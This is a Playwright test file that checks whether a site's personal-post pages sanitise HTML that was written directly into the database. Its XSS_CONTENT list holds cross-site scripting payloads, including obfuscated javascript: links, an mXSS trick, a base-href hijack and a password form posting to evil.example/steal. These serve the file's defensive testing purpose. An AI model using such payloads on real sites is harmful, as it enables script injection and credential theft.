// @module-tag security
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures/csp';
import { openDatabase } from '@/lib/db/open';
import { parseEnv } from '@/lib/env';
import { preparedDataDir, startSite, type SiteServer } from '../helpers/site-server';

/**
 * Posts written straight into the database, past the editor's save-time sanitising: the public page
 * must make them safe by itself. One server of our own on a data directory prepared while no server
 * holds it.
 */

const XSS_TITLE = '<img src=x onerror="window.__xss=\'title\'"> Payload post';

const XSS_CONTENT = [
  '<p>Visible <strong>bold survives</strong> and <em>emphasis survives</em>.</p>',
  '<ul><li>list item survives</li></ul>',
  '<p><a href="https://example.org/reading">an external link survives</a></p>',
  '<script>window.__xss = "script"</script>',
  '<SCRIPT>alert("uppercase script")</SCRIPT>',
  '<img src="x" onerror="window.__xss = \'img onerror\'; alert(1)">',
  '<svg onload="window.__xss = \'svg onload\'"><circle r="4"></circle></svg>',
  '<p><a id="js-link" href="java&#x09;script:window.__xss=\'javascript link\'">click me</a></p>',
  '<iframe srcdoc="<script>parent.__xss=\'iframe srcdoc\'</script>"></iframe>',
  '<details open ontoggle="window.__xss = \'ontoggle\'"><summary>s</summary></details>',
  '<p onmouseover="window.__xss = \'onmouseover\'" id="hover-me">hover paragraph</p>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=\'meta\'">',
  '<form action="https://evil.example/steal"><input name="password"><button>Steal</button></form>',
  '<object data="javascript:window.__xss=\'object\'"></object><embed src="javascript:window.__xss=\'embed\'">',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff" class="fixed inset-0 z-50">Overlay text</div>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=\'mxss\'>"></noscript>',
  '<base href="https://evil.example/">',
].join('\n');

let site: SiteServer;
const ids: Record<'xss' | 'brokenImage', string> = { xss: '', brokenImage: '' };

test.beforeAll(async () => {
  test.setTimeout(180_000);
  // The sample content, migrated and seeded as a first start leaves it (copied, not made).
  const dataDir = await preparedDataDir();
  const opened = await openDatabase(parseEnv({ DATA_DIR: dataDir }), { purpose: 'test' });
  try {
    const insert = `insert into personal_posts (title, content, date, type, image_urls) values ($1, $2, $3, $4, $5) returning id`;
    const xss = await opened.db.query<{ id: string }>(insert, [XSS_TITLE, XSS_CONTENT, '2026-04-01', 'story', null]);
    const broken = await opened.db.query<{ id: string }>(insert, [
      'A Photo That Went Missing',
      '<p>The first image no longer exists.</p>',
      '2026-04-02',
      'story',
      ['/uploads/no-such-photo.jpg', '/placeholder.svg'],
    ]);
    ids.xss = xss.rows[0].id;
    ids.brokenImage = broken.rows[0].id;
    // Leaves no 'thought' post, for the empty state.
    await opened.db.query(`delete from personal_posts where type = 'thought'`);
  } finally {
    await opened.release();
  }
  site = await startSite({ dataDir });
});

test.afterAll(async () => {
  await site?.stop();
});

/** Records every dialog (alert, confirm…) the page opens; any one means a payload ran. */
function watchDialogs(page: Page): string[] {
  const opened: string[] = [];
  page.on('dialog', (dialog) => {
    opened.push(dialog.message());
    void dialog.dismiss();
  });
  return opened;
}

test('a personal post full of XSS payloads runs no script and keeps its harmless formatting', async ({ page }) => {
  const dialogs = watchDialogs(page);
  await page.goto(`${site.url}/personal/${ids.xss}`);
  const article = page.locator('main article');
  // The post's own HTML, as the page rendered it after sanitising.
  const content = article.locator('[data-slot="personal-content"]');

  // The harmless formatting is still shown.
  await expect(content.locator('strong')).toHaveText('bold survives');
  await expect(content.locator('em')).toHaveText('emphasis survives');
  await expect(content.getByText('list item survives')).toBeVisible();
  const external = content.getByRole('link', { name: 'an external link survives' });
  await expect(external).toHaveAttribute('href', 'https://example.org/reading');
  await expect(external).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  await expect(external).toHaveAttribute('target', '_blank');
  // The title is text, shown as written.
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(XSS_TITLE);

  // Nothing executable reached the DOM.
  await expect(content.locator('script, iframe, object, embed, form, input, svg, meta, base, [style], [class], [id]')).toHaveCount(0);
  expect(await article.evaluate((root) => [...root.querySelectorAll('*')].flatMap((el) => el.getAttributeNames()).filter((name) => name.startsWith('on')))).toEqual([]);
  await expect(page.locator('base')).toHaveCount(0);

  // Interaction does not run anything either.
  await content.getByText('hover paragraph').hover();
  await content.getByText('click me').click();
  await expect(page).toHaveURL(`${site.url}/personal/${ids.xss}`);

  // The overlay is ordinary text in the flow, not covering the page.
  expect(await content.getByText('Overlay text').evaluate((el) => getComputedStyle(el).position)).toBe('static');

  // Give a late payload (a load/error handler, a meta refresh) time to fire before concluding.
  await page.waitForTimeout(1_000);
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(dialogs).toEqual([]);
  await expect(page).toHaveURL(`${site.url}/personal/${ids.xss}`);
});

test('the posts list previews a payload post as plain text without running it', async ({ page }) => {
  const dialogs = watchDialogs(page);
  await page.goto(`${site.url}/personal`);
  const card = page.locator('main article').filter({ hasText: 'Payload post' });
  await expect(card.getByText(/^Visible bold survives and emphasis survives\.\.\.$/)).toBeVisible();
  await expect(card.locator('script, iframe, object, embed, [onerror], [onload]')).toHaveCount(0);
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(dialogs).toEqual([]);
});

test('a broken personal image is replaced by the placeholder', async ({ page }) => {
  await page.goto(`${site.url}/personal/${ids.brokenImage}`);
  const images = page.locator('main article').getByRole('img');
  await expect(images).toHaveCount(2);
  await expect(images.first()).toHaveAttribute('src', /^\/placeholder\.svg$/);
  // The replacement really loaded.
  await expect.poll(() => images.first().evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);
});

test("a filter with no posts shows 'No posts found'", async ({ page }) => {
  await page.goto(`${site.url}/personal?type=thought`);
  await expect(page.getByText('No posts found')).toBeVisible();
  await expect(page.locator('main article')).toHaveCount(0);
});
